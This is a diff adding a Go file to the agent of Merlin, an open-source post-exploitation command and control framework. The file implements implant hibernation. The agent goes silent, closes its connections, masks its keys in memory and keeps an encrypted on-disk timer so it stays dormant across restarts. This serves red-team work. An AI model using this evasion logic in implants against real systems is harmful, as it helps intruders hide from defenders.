@@ -0,0 +1,171 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"crypto/aes"
+	"crypto/cipher"
+	"crypto/hmac"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/binary"
+	"fmt"
+	"os"
+	"time"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/clients"
+	"github.com/Ne0nd0g/merlin-agent/commands"
+	"github.com/Ne0nd0g/merlin-agent/crypto/secure"
+)
+
+// hibernateCheck is the longest the agent sleeps at once while hibernating so that time the host spends suspended,
+// which a monotonic sleep doesn't count, doesn't delay waking up
+const hibernateCheck = 10 * time.Minute
+
+// setHibernate makes the agent hibernate until the wall clock time. When a hibernation file is configured the time is
+// written to it, encrypted, so a restarted agent keeps hibernating instead of checking in
+func (a *Agent) setHibernate(until time.Time) error {
+	if !until.After(time.Now()) {
+		return fmt.Errorf("the hibernation end time %s is not in the future", until.UTC().Format(time.RFC3339))
+	}
+	// Drop the monotonic clock reading so the end time is compared against the wall clock
+	a.hibernation = until.Round(0)
+	if a.hibernateFile == "" {
+		return nil
+	}
+	gcm, err := a.hibernateCipher()
+	if err != nil {
+		return err
+	}
+	nonce := make([]byte, gcm.NonceSize())
+	if _, err = rand.Read(nonce); err != nil {
+		return fmt.Errorf("there was an error generating a nonce for the hibernation file: %s", err)
+	}
+	state := binary.BigEndian.AppendUint64(nil, uint64(a.hibernation.Unix()))
+	if err = os.WriteFile(a.hibernateFile, gcm.Seal(nonce, nonce, state, nil), 0600); err != nil {
+		return fmt.Errorf("there was an error writing the hibernation file: %s", err)
+	}
+	return nil
+}
+
+// resumeHibernate reads the hibernation file written before the agent restarted and keeps hibernating if its end time
+// has not passed. The file is removed once it has
+func (a *Agent) resumeHibernate() error {
+	if a.hibernateFile == "" {
+		return nil
+	}
+	data, err := os.ReadFile(a.hibernateFile)
+	if err != nil {
+		if os.IsNotExist(err) {
+			return nil
+		}
+		return fmt.Errorf("there was an error reading the hibernation file: %s", err)
+	}
+	gcm, err := a.hibernateCipher()
+	if err != nil {
+		return err
+	}
+	if len(data) < gcm.NonceSize() {
+		return fmt.Errorf("the hibernation file %s is too short", a.hibernateFile)
+	}
+	state, err := gcm.Open(nil, data[:gcm.NonceSize()], data[gcm.NonceSize():], nil)
+	if err != nil || len(state) != 8 {
+		return fmt.Errorf("the hibernation file %s could not be decrypted", a.hibernateFile)
+	}
+	until := time.Unix(int64(binary.BigEndian.Uint64(state)), 0)
+	if !until.After(time.Now()) {
+		return os.Remove(a.hibernateFile)
+	}
+	a.hibernation = until
+	return nil
+}
+
+// hibernateKey derives the hibernation file's key from the PSK and the host's fingerprint. The vault's key is random and
+// only lives as long as the process, so it can't be used for a file a restarted agent reads. The fingerprint alone is
+// built from values any user on the host can read, the PSK is what keeps them from recomputing the key, and the
+// fingerprint keeps a file copied to another host from being read by an agent there
+func hibernateKey(psk, fingerprint string) *secure.Buffer {
+	mac := hmac.New(sha256.New, []byte(psk))
+	mac.Write([]byte("hibernate" + fingerprint))
+	return secure.NewBuffer(mac.Sum(nil))
+}
+
+// hibernateCipher returns the cipher for the hibernation file
+func (a *Agent) hibernateCipher() (cipher.AEAD, error) {
+	block, err := aes.NewCipher(a.hibernateKey.Bytes())
+	if err != nil {
+		return nil, fmt.Errorf("there was an error creating the hibernation file cipher: %s", err)
+	}
+	return cipher.NewGCM(block)
+}
+
+// hibernate keeps the agent as quiet as possible until the hibernation end time: it doesn't check in or listen for its
+// wake trigger, its persistent connections are closed, and its key material is masked in memory
+func (a *Agent) hibernate() {
+	if cli.Enabled {
+		cli.Message(cli.NOTE, fmt.Sprintf("Hibernating until %s", a.hibernation.UTC().Format(time.RFC3339)))
+	}
+	clients.CloseIdle()
+	if err := secure.Mask(); err != nil {
+		if cli.Enabled {
+			cli.Message(cli.WARN, err.Error())
+		}
+	}
+	for {
+		remaining := time.Until(a.hibernation)
+		if remaining <= 0 {
+			break
+		}
+		// The kill date is checked as soon as the agent wakes up
+		if a.KillDate != 0 && clients.Now().Unix() >= a.KillDate {
+			break
+		}
+		if remaining > hibernateCheck {
+			remaining = hibernateCheck
+		}
+		time.Sleep(remaining)
+	}
+	secure.Unmask()
+	a.hibernation = time.Time{}
+	if a.hibernateFile != "" {
+		if err := os.Remove(a.hibernateFile); err != nil && !os.IsNotExist(err) {
+			if cli.Enabled {
+				cli.Message(cli.WARN, fmt.Sprintf("there was an error removing the hibernation file: %s", err))
+			}
+		}
+	}
+	if cli.Enabled {
+		cli.Message(cli.NOTE, "Woke up from hibernation")
+	}
+}
+
+// parseHibernate returns the end of a hibernation that is a duration from now (e.g., 72h) or a time that says which
+// time zone it is in (see commands.ParseTime)
+func parseHibernate(value string) (time.Time, error) {
+	if d, err := time.ParseDuration(value); err == nil {
+		return time.Now().Add(d), nil
+	}
+	until, err := commands.ParseTime(value)
+	if err != nil {
+		return time.Time{}, fmt.Errorf("%s is not a duration (e.g., 72h) or a time with its time zone (e.g., 2006-01-02T15:04:05Z or 2006-01-02 17:00 local)", value)
+	}
+	return until, nil
+}